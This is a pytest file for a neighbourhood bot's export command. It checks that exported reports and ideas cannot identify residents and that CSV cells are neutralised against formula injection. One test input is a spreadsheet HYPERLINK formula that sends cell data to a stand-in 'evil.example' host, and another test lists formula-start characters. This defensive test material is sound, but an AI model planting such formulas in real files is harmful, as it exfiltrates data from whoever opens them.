"""`wijkbot export`: what the area team gets, and that no resident can be identified."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from bot.app import App
from tests.support.fake import Chat, MakeChat

ROOT = Path(__file__).resolve().parents[2]


def _export(db_url: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "WIJKBOT_DATA_DIR": str(tmp_path), "WIJKBOT_DATABASE_URL": db_url}
    return subprocess.run([sys.executable, "-m", "bot", "export", *args], capture_output=True,
                          text=True, env=env, cwd=ROOT, timeout=60)  # fmt: skip


async def test_export_signals_and_ideas(
    app: App, make_chat: MakeChat, db_url: str, tmp_path: Path
) -> None:
    anna: Chat = make_chat("anna", lang="en")
    await anna.say("/wijk")
    await anna.press("Schalkwijk")
    await anna.say("/melding")
    await anna.say("Losse tegel, gemeld door Anna de Vries")
    await anna.location(52.3645, 4.653)
    await anna.press("Skip")
    await anna.press("Street or pavement")
    await anna.say("melding: Glas op het fietspad")
    await anna.say("Europaweg")
    await anna.press("Skip")
    await anna.say("/idee Buurtbieb")
    await anna.press("Post")
    bob: Chat = make_chat("bob", lang="en")
    await bob.press_data("idea:support:1")

    done = _export(db_url, tmp_path, "signals", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["reference"] for r in rows] == ["M-1001", "M-1002"]
    assert rows[0]["category"] == "road" and rows[0]["neighbourhood"] == "Schalkwijk"
    assert not any(k for k in rows[0] if "reporter" in k or "person" in k or "account" in k)
    assert "anna" not in done.stdout.replace("Anna de Vries", "")  # no account ids

    geo = json.loads(_export(db_url, tmp_path, "signals", "--format", "geojson").stdout)
    [feature] = geo["features"]  # only the report with a location
    assert feature["geometry"]["coordinates"] == [4.653, 52.3645]

    ideas = json.loads(_export(db_url, tmp_path, "ideas", "--format", "json").stdout)
    assert ideas[0]["reference"] == "I-1" and ideas[0]["supporters"] == 1
    assert "author" not in ideas[0]

    bad = _export(db_url, tmp_path, "ideas", "--format", "geojson")
    assert bad.returncode == 2 and "location" in bad.stderr and "Traceback" not in bad.stderr
    unknown = _export(db_url, tmp_path, "signals", "--neighbourhood", "atlantis")
    assert unknown.returncode == 2 and "atlantis" in unknown.stderr


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


async def test_csv_cells_never_start_a_formula(
    app: App, make_chat: MakeChat, db_url: str, tmp_path: Path
) -> None:
    """A resident's words open in a spreadsheet as text, never as a formula (OWASP CSV
    injection); JSON and GeoJSON keep them exactly."""
    anna: Chat = make_chat("anna", lang="en")
    await anna.say("/wijk")
    await anna.press("Schalkwijk")
    await anna.say("/melding")
    await anna.say(FORMULA)
    await anna.location(52.3645, -4.653)  # a negative number stays a number
    await anna.press("Skip")
    await anna.press("Street or pavement")
    await anna.say("/idee")
    await anna.say("@SUM(1+1)")
    await anna.say("+31 6 12345678 -1+1")
    await anna.press("No theme")
    await anna.press("Post")

    signals = list(csv.DictReader(io.StringIO(_export(db_url, tmp_path, "signals").stdout)))
    assert signals[0]["text"] == "'" + FORMULA
    assert signals[0]["lon"] == "-4.653" and signals[0]["reference"] == "M-1001"
    ideas = list(csv.DictReader(io.StringIO(_export(db_url, tmp_path, "ideas").stdout)))
    assert ideas[0]["title"] == "'@SUM(1+1)"
    assert ideas[0]["description"].startswith("'+31")

    [as_json] = json.loads(_export(db_url, tmp_path, "signals", "--format", "json").stdout)
    assert as_json["text"] == FORMULA and as_json["lon"] == -4.653
    geo = json.loads(_export(db_url, tmp_path, "signals", "--format", "geojson").stdout)
    assert geo["features"][0]["properties"]["text"] == FORMULA
    idea_json = json.loads(_export(db_url, tmp_path, "ideas", "--format", "json").stdout)
    assert idea_json[0]["title"] == "@SUM(1+1)"


def test_every_formula_start_is_neutralised() -> None:
    """OWASP's list (=, +, -, @, tab, carriage return) and the full-width signs some
    spreadsheets also read as a formula; text is text, numbers stay numbers."""
    from bot.ops.export import render

    starts = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A1"]
    rows = [{"reference": f"M-{i}", "text": s, "lat": -1.5, "followers": -2}
            for i, s in enumerate(starts)]  # fmt: skip
    read = list(csv.DictReader(io.StringIO(render("signals", "csv", rows), newline="")))
    assert [r["text"] for r in read] == ["'" + s for s in starts]
    assert {r["lat"] for r in read} == {"-1.5"} and {r["followers"] for r in read} == {"-2"}
    plain = [{"reference": "M-1", "text": "Losse tegel = gevaarlijk", "lat": None}]
    assert next(csv.DictReader(io.StringIO(render("signals", "csv", plain))))["text"] == (
        "Losse tegel = gevaarlijk"
    )
